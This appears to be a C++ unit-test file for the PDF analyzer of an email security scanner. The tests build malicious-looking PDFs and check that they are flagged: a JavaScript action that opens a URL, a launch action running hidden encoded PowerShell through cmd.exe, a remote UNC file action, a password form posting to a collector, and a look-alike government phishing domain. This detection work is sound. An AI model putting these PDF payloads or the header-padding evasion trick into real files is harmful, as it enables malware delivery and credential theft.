// pdf: each weapon of a PDF attachment reported on the PDF object, its links joined to the
// message's (and judged by the link analyzers through the engine), its embedded files extracted,
// encrypted and benign PDFs. PDFs are written by the test (src/objects/pdf/pdf_test_writer.h).
#include <gtest/gtest.h>

#include "analyzers/analyzer_harness.h"
#include "objects/archive/test_archives.h"
#include "analyzers/attachment_message_test_support.h"
#include "objects/pdf/pdf_test_writer.h"
#include "vigie/engine.h"

namespace vigie::analyzers {
namespace {

using objects::pdf::testing::encrypted;
using objects::pdf::testing::one_page_pdf;
using objects::pdf::testing::stream;
using objects::pdf::testing::write_pdf;
using testing::with_attachment;

const AnalyzerHarness& harness() {
  static const AnalyzerHarness h("pdf");
  return h;
}

std::string pdf_with_link_and_script(std::string_view url) {
  return one_page_pdf("/OpenAction 4 0 R", "/Annots [5 0 R]",
                      {"<< /Type /Action /S /JavaScript /JS (app.launchURL\\('https://203.0.113.8/x'\\);) >>",
                       "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (" + std::string(url) +
                           ") >> >>"});
}

TEST(PdfAnalyzerTest, AScriptOnOpeningIsReportedOnThePdf) {
  const auto run = harness().run(with_attachment("facture.pdf", pdf_with_link_and_script("https://example.org/"),
                                                 "application/pdf"));
  const Finding* f = AnalyzerHarness::find(run.findings, "PDF_JAVASCRIPT_ON_OPEN");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->analyzer, "pdf");
  ASSERT_EQ(f->evidence.size(), 2u);
  EXPECT_EQ(run.objects.at(f->evidence[0].object).filename, "facture.pdf");
  EXPECT_EQ(f->evidence[0].field, "trigger");
  EXPECT_EQ(f->evidence[0].value, "when the document is opened");
  EXPECT_EQ(f->evidence[0].value_fr, "à l'ouverture du document");
  EXPECT_EQ(f->evidence[1].field, "script");
  EXPECT_EQ(f->evidence[1].value, "app.launchURL('https://203.0.113.8/x');");
  EXPECT_EQ(AnalyzerHarness::find(run.findings, "PDF_JAVASCRIPT"), nullptr);
}

TEST(PdfAnalyzerTest, LinksInsideThePdfJoinTheMessage) {
  const auto run = harness().run(with_attachment("facture.pdf", pdf_with_link_and_script("https://example.org/login"),
                                                 "application/pdf"));
  std::vector<std::string> urls;
  for (const Url& u : run.objects.urls()) {
    urls.emplace_back(u.normalized());
    EXPECT_EQ(run.objects.of_part(u.part), 2u);  // the PDF's part
  }
  // The opening script is reached first (the catalog's /OpenAction), the page's link after it.
  EXPECT_EQ(urls, (std::vector<std::string>{"https://203.0.113.8/x", "https://example.org/login"}));
}

TEST(PdfAnalyzerTest, LaunchRemoteFilesAndForms) {
  const std::string bytes = one_page_pdf(
      "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden -enc SQBFAFgA) >> "
      "/Next << /S /GoToR /F (\\\\\\\\198.51.100.3\\\\share\\\\x.pdf) /D [0 /Fit] >> >> "
      "/AcroForm << /Fields [4 0 R] >>",
      "/Annots [4 0 R 5 0 R]",
      {"<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 8192 /T (password) /Rect [0 0 1 1] >>",
       "<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 1 1] "
       "/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/p) >> >> >>"});
  const auto run = harness().run(with_attachment("releve.pdf", bytes, "application/pdf"));
  const Finding* launch = AnalyzerHarness::find(run.findings, "PDF_LAUNCH_ACTION");
  ASSERT_NE(launch, nullptr);
  ASSERT_EQ(launch->evidence.size(), 3u);
  EXPECT_EQ(launch->evidence[1].value, "cmd.exe");
  EXPECT_EQ(launch->evidence[2].field, "parameters");
  EXPECT_EQ(launch->evidence[2].value, "/c powershell -w hidden -enc SQBFAFgA");
  const Finding* remote = AnalyzerHarness::find(run.findings, "PDF_REMOTE_FILE_ACTION");
  ASSERT_NE(remote, nullptr);
  EXPECT_EQ(remote->evidence.at(1).value, "\\\\198.51.100.3\\share\\x.pdf");
  const Finding* password = AnalyzerHarness::find(run.findings, "PDF_PASSWORD_FORM");
  ASSERT_NE(password, nullptr);
  EXPECT_EQ(password->evidence.at(0).value, "password");
  const Finding* submit = AnalyzerHarness::find(run.findings, "PDF_SUBMIT_FORM");
  ASSERT_NE(submit, nullptr);
  EXPECT_EQ(submit->evidence.at(0).value, "https://collect.example/p");
  ASSERT_EQ(run.objects.urls().size(), 1u);
  EXPECT_EQ(run.objects.urls()[0].source, UrlSource::kFormAction);
}

TEST(PdfAnalyzerTest, EmbeddedFilesBecomeChildObjects) {
  const std::string bytes = one_page_pdf(
      "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", "",
      {"<< /Type /Filespec /F (lisez-moi.js) /EF << /F 5 0 R >> >>",
       stream("/Type /EmbeddedFile /Subtype /application#2Fjavascript", "WScript.Echo(1);")});
  const auto run = harness().run(with_attachment("dossier.pdf", bytes, "application/pdf"));
  EXPECT_TRUE(run.findings.empty());  // an embedded file alone is for the analyzers of files
  ASSERT_EQ(run.objects.size(), 4u);
  const Object& child = run.objects.at(3);
  EXPECT_EQ(child.origin, ObjectOrigin::kEmbedded);
  EXPECT_EQ(child.parent, 2u);
  EXPECT_EQ(child.filename, "lisez-moi.js");
  EXPECT_EQ(child.declared_type, "application/javascript");
  EXPECT_EQ(child.bytes(), "WScript.Echo(1);");
  EXPECT_EQ(run.objects.path(child.id), "part 2 (dossier.pdf) > lisez-moi.js");
}

TEST(PdfAnalyzerTest, APasswordProtectedPdfIsNotExamined) {
  const std::string bytes = write_pdf(
      {"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>",
       "<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 "
       "/O <0000000000000000000000000000000000000000000000000000000000000000> "
       "/U <1111111111111111111111111111111111111111111111111111111111111111> >>"},
      "/Encrypt 3 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]");
  const auto run = harness().run(with_attachment("scan.pdf", bytes, "application/pdf"));
  const Finding* f = AnalyzerHarness::find(run.findings, "PDF_ENCRYPTED");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.at(0).value, "encrypted with a password: not examined");
  ASSERT_EQ(run.objects.at(2).notes.size(), 1u);
}

TEST(PdfAnalyzerTest, ThePasswordTheMessageGivesOpensThePdf) {
  std::string raw = with_attachment("releve.pdf", encrypted(pdf_with_link_and_script("https://example.org/"), "Kx7-2025"),
                                    "application/pdf");
  raw.replace(raw.find("Veuillez trouver le document ci-joint."), 38,
              "Le document est protégé.\nMot de passe du document : Kx7-2025.");
  const auto run = harness().run(raw);
  const Finding* f = AnalyzerHarness::find(run.findings, "PDF_ENCRYPTED");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.at(0).value, "encrypted with a password the message gives (\"Kx7-2025\"): examined with it");
  EXPECT_EQ(f->evidence.at(0).value_fr,
            "chiffré par un mot de passe que le message donne (« Kx7-2025 ») : examiné avec celui-ci");
  EXPECT_NE(AnalyzerHarness::find(run.findings, "PDF_JAVASCRIPT_ON_OPEN"), nullptr);
  EXPECT_EQ(run.objects.urls().size(), 2u);
}

TEST(PdfAnalyzerTest, AnOrdinaryPdfIsSilentAndAHeaderAfterJunkIsStillRead) {
  const std::string plain = one_page_pdf("", "", {});
  const auto quiet = harness().run(with_attachment("note.pdf", plain, "application/pdf"));
  EXPECT_TRUE(quiet.findings.empty());
  EXPECT_TRUE(quiet.objects.urls().empty());
  EXPECT_TRUE(quiet.objects.at(2).notes.empty());

  // Readers look for %PDF- in the first kilobyte: 500 bytes in front hide it from a signature.
  const std::string hidden = std::string(500, ' ') + pdf_with_link_and_script("https://example.org/");
  const auto run = harness().run(with_attachment("scan.bin", hidden));
  EXPECT_NE(AnalyzerHarness::find(run.findings, "PDF_JAVASCRIPT_ON_OPEN"), nullptr);
}

TEST(PdfAnalyzerTest, AnOversizedPdfIsReportedNotExamined) {
  Config config;
  config.limits.max_pdf_bytes = 200;
  const AnalyzerHarness limited("pdf", config);
  const auto run = limited.run(with_attachment("gros.pdf", pdf_with_link_and_script("https://example.org/")));
  EXPECT_TRUE(run.findings.empty());
  ASSERT_EQ(run.limits_reached.size(), 1u);
  EXPECT_EQ(run.limits_reached[0].limit, "max_pdf_bytes");
  EXPECT_EQ(run.limits_reached[0].stage, "pdf");
  EXPECT_EQ(run.limits_reached[0].object, 2u);
  EXPECT_EQ(run.limits_reached[0].not_examined, "the whole PDF (not opened)");
}

// ---- Through the engine: a look-alike link inside a PDF counts like one in the body ---------

TEST(PdfEngineTest, ALookAlikeLinkInsideAPdfIsFoundOnThePdf) {
  Config config;
  config.organisation.name = "Ministère de l'Intérieur";
  config.organisation.protected_domains = {"interieur.gouv.fr"};
  const Engine engine{config};
  const std::string raw = with_attachment(
      "convocation.pdf", pdf_with_link_and_script("https://interieur-gouv.fr/messagerie/connexion"), "application/pdf");
  const ScanResult r = engine.scan(std::make_shared<const std::string>(raw), Envelope{});
  const Finding* lookalike = nullptr;
  for (const Finding& f : r.findings) {
    if (f.id == "LOOKALIKE_ORGANISATION_DOMAIN") lookalike = &f;
  }
  ASSERT_NE(lookalike, nullptr);
  const auto on_pdf = std::find_if(lookalike->evidence.begin(), lookalike->evidence.end(), [&](const Evidence& e) {
    return e.field == "url" && e.object == 2 && e.value.find("interieur-gouv.fr") != std::string::npos;
  });
  EXPECT_NE(on_pdf, lookalike->evidence.end());
  EXPECT_GE(r.verdict.action, Action::kWarn);
}

// The analyst is sent to the file that holds the link, not to the archive around it.
TEST(PdfEngineTest, ALinkInAPdfInsideAZipPointsAtThePdf) {
  Config config;
  config.organisation.name = "Ministère de l'Intérieur";
  config.organisation.protected_domains = {"interieur.gouv.fr"};
  const Engine engine{config};
  const std::string zip = objects::archive::testing::write_archive(
      "zip", {{"convocation.pdf", pdf_with_link_and_script("https://interieur-gouv.fr/messagerie/connexion")}});
  const std::string raw = with_attachment("dossier.zip", zip, "application/zip");
  const ScanResult r = engine.scan(std::make_shared<const std::string>(raw), Envelope{});
  const auto pdf = std::find_if(r.objects.begin(), r.objects.end(), [](const Object& o) { return o.filename == "convocation.pdf"; });
  ASSERT_NE(pdf, r.objects.end());
  ASSERT_NE(pdf->parent, kMessageObject);
  const Finding* lookalike = nullptr;
  for (const Finding& f : r.findings) {
    if (f.id == "LOOKALIKE_ORGANISATION_DOMAIN") lookalike = &f;
  }
  ASSERT_NE(lookalike, nullptr);
  const auto url = std::find_if(lookalike->evidence.begin(), lookalike->evidence.end(),
                                [](const Evidence& e) { return e.field == "url"; });
  ASSERT_NE(url, lookalike->evidence.end());
  EXPECT_EQ(url->object, pdf->id);
}

}  // namespace
}  // namespace vigie::analyzers
